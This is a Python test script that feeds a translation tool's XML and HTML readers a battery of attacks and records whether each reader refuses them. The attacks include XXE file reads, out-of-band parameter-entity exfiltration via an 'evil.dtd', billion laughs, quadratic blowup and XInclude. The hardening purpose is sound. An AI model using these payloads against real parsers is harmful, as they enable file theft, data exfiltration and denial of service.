"""XML attacks on every XML relay reads, run in a process of their own (to measure its memory).

``python xml_attacks.py CANARY URL`` feeds each attack to each reader and prints one JSON
line per attempt (reader, attack, outcome, message, seconds), then one with the process's
peak memory. ``CANARY`` is a file an attack tries to read, ``URL`` a server it tries to reach.
Run with ``tests`` on ``PYTHONPATH`` (as :func:`support.reliability.child_env` gives it).
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Callable

from support.rss import peak_kb

from relay.checks.glossary import read_glossary
from relay.core.errors import RelayError
from relay.exchange import xliff2, xliff12
from relay.exchange.handoff import read_package
from relay.memory import tmx
from relay.sources.formats import html

# Each document has {decl} where a DOCTYPE goes and {ref} where an entity is used.
DOCUMENTS = {
    "xliff12": (
        "xliff",
        '<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2">'
        '<file original="sources/a.html" source-language="en" target-language="fr"'
        ' datatype="html"><body><trans-unit id="u1"><source>Hello</source>'
        "<target>{ref}</target></trans-unit></body></file></xliff>",
    ),
    "xliff2": (
        "xliff",
        '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en"'
        ' trgLang="fr"><file id="f1" original="sources/a.html"><unit id="u1"><segment>'
        "<source>Hello</source><target>{ref}</target></segment></unit></file></xliff>",
    ),
    "tmx": (
        "tmx",
        '<tmx version="1.4"><header creationtool="t" creationtoolversion="1" datatype="plaintext"'
        ' segtype="sentence" adminlang="en" srclang="en" o-tmf="t"/><body><tu>'
        '<tuv xml:lang="en"><seg>Hello</seg></tuv><tuv xml:lang="fr"><seg>{ref}</seg></tuv>'
        "</tu></body></tmx>",
    ),
    "tbx": (
        "tbx",
        '<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
        "<text><body><conceptEntry id='c1'><langSec xml:lang='en'><termSec><term>UNECE</term>"
        "</termSec></langSec><langSec xml:lang='fr'><termSec><term>{ref}</term></termSec>"
        "</langSec></conceptEntry></body></text></tbx>",
    ),
}


def attacks(canary: str, url: str) -> dict[str, tuple[str, str]]:
    """Attack name → (DOCTYPE or other prolog, what goes where the entity is used)."""
    laughs = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    return {
        "external entity (file)": (
            f'<!DOCTYPE {{root}} [<!ENTITY e SYSTEM "file://{canary}">]>',
            "&e;",
        ),
        "external entity (network)": (f'<!DOCTYPE {{root}} [<!ENTITY e SYSTEM "{url}/e">]>', "&e;"),
        "parameter entity (file)": (
            f'<!DOCTYPE {{root}} [<!ENTITY % p SYSTEM "file://{canary}"> %p;]>',
            "x",
        ),
        "parameter entity (network, out of band)": (
            f'<!DOCTYPE {{root}} [<!ENTITY % d SYSTEM "{url}/evil.dtd"> %d; %send;]>',
            "x",
        ),
        "billion laughs": (f"<!DOCTYPE {{root}} [{laughs}]>", "&a9;"),
        "quadratic blowup": (
            f'<!DOCTYPE {{root}} [<!ENTITY q "{"x" * 50_000}">]>',
            "&q;" * 20_000,
        ),
        "external DTD (network)": (f'<!DOCTYPE {{root}} SYSTEM "{url}/x.dtd">', "x"),
        "external DTD (file)": (f'<!DOCTYPE {{root}} SYSTEM "file://{canary}">', "x"),
        "XInclude (file)": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}"'
            ' parse="text"/>',
        ),
        "XInclude (network)": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x" parse="text"/>',
        ),
        "DOCTYPE past the first 64 KB": (
            "<!--" + "x" * 70_000 + "-->\n"
            f'<!DOCTYPE {{root}} [<!ENTITY % p SYSTEM "file://{canary}"> %p;'
            f'<!ENTITY e SYSTEM "{url}/far">]>',
            "&e;",
        ),
        "billion laughs past the first 64 KB": (
            "<!--" + "x" * 70_000 + f"-->\n<!DOCTYPE {{root}} [{laughs}]>",
            "&a9;",
        ),
        "stylesheet and schema locations": (
            f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>',
            f'<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            f' xsi:noNamespaceSchemaLocation="{url}/x.xsd"/>',
        ),
    }


def _xml_documents(canary: str, url: str) -> list[tuple[str, str, bytes]]:
    made = []
    for reader, (root, body) in DOCUMENTS.items():
        for name, (prolog, ref) in attacks(canary, url).items():
            text = prolog.replace("{root}", root) + body.replace("{ref}", ref)
            made.append((reader, name, text.encode("utf-8")))
            if name == "external entity (file)":
                # The same in UTF-16, for a reader that sniffs only ASCII-compatible bytes.
                declared = '<?xml version="1.0" encoding="UTF-16"?>' + text
                made.append((reader, name + ", UTF-16", declared.encode("utf-16")))
    return made


def _html_documents(canary: str, url: str) -> list[tuple[str, str, bytes]]:
    page = "<html><head><title>T</title></head><body><p>{ref} text</p></body></html>"
    cases = {
        "external entity (file)": (
            f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{canary}">]>',
            "&e;",
        ),
        "parameter entity (network)": (
            f'<!DOCTYPE html [<!ENTITY % d SYSTEM "{url}/evil.dtd"> %d;]>',
            "x",
        ),
        "billion laughs": (
            '<!DOCTYPE html [<!ENTITY a0 "lol">'
            + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
            + "]>",
            "&a9;",
        ),
        "external DTD (network)": (f'<!DOCTYPE html SYSTEM "{url}/x.dtd">', "x"),
        "XInclude (file)": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}"'
            ' parse="text"/>',
        ),
        "entity in an attribute": (
            f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{canary}">]>',
            '<img alt="&e;" src="a.png">',
        ),
    }
    return [
        ("html", name, (prolog + page.replace("{ref}", ref)).encode("utf-8"))
        for name, (prolog, ref) in cases.items()
    ]


READERS: dict[str, Callable[[bytes], object]] = {
    "xliff12": lambda data: xliff12.read(data, path="returned.xlf"),
    "xliff2": lambda data: xliff2.read(data, path="returned.xlf"),
    "tmx": lambda data: tmx.read(
        data, path="memory.tmx", origin="tmx:memory", source_lang="en", target_langs=["fr"]
    ),
    "tbx": lambda data: read_glossary(data, path="glossary.tbx", source_lang="en"),
    "html": lambda data: html.read(data.decode("utf-8"), path="sources/a.html"),
}


def main(canary: str, url: str) -> None:
    documents = _xml_documents(canary, url) + _html_documents(canary, url)
    for reader, name, data in documents:
        readers = [reader, "returned file"] if reader.startswith("xliff") else [reader]
        for used in readers:
            read = READERS.get(used) or (lambda data: read_package(data, path="returned.xlf"))
            started = time.perf_counter()
            try:
                result = read(data)
                outcome, message = "read", repr(result)[:2000]
            except RelayError as error:
                outcome, message = "refused", error.message
            except Exception as error:  # the test reports anything else
                outcome, message = f"escaped {type(error).__name__}", str(error)
            seconds = time.perf_counter() - started
            line = {"reader": used, "attack": name, "outcome": outcome, "message": message}
            print(json.dumps({**line, "seconds": seconds, "bytes": len(data)}), flush=True)
    peak = peak_kb()
    print(json.dumps({"peak_rss_kb": peak}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
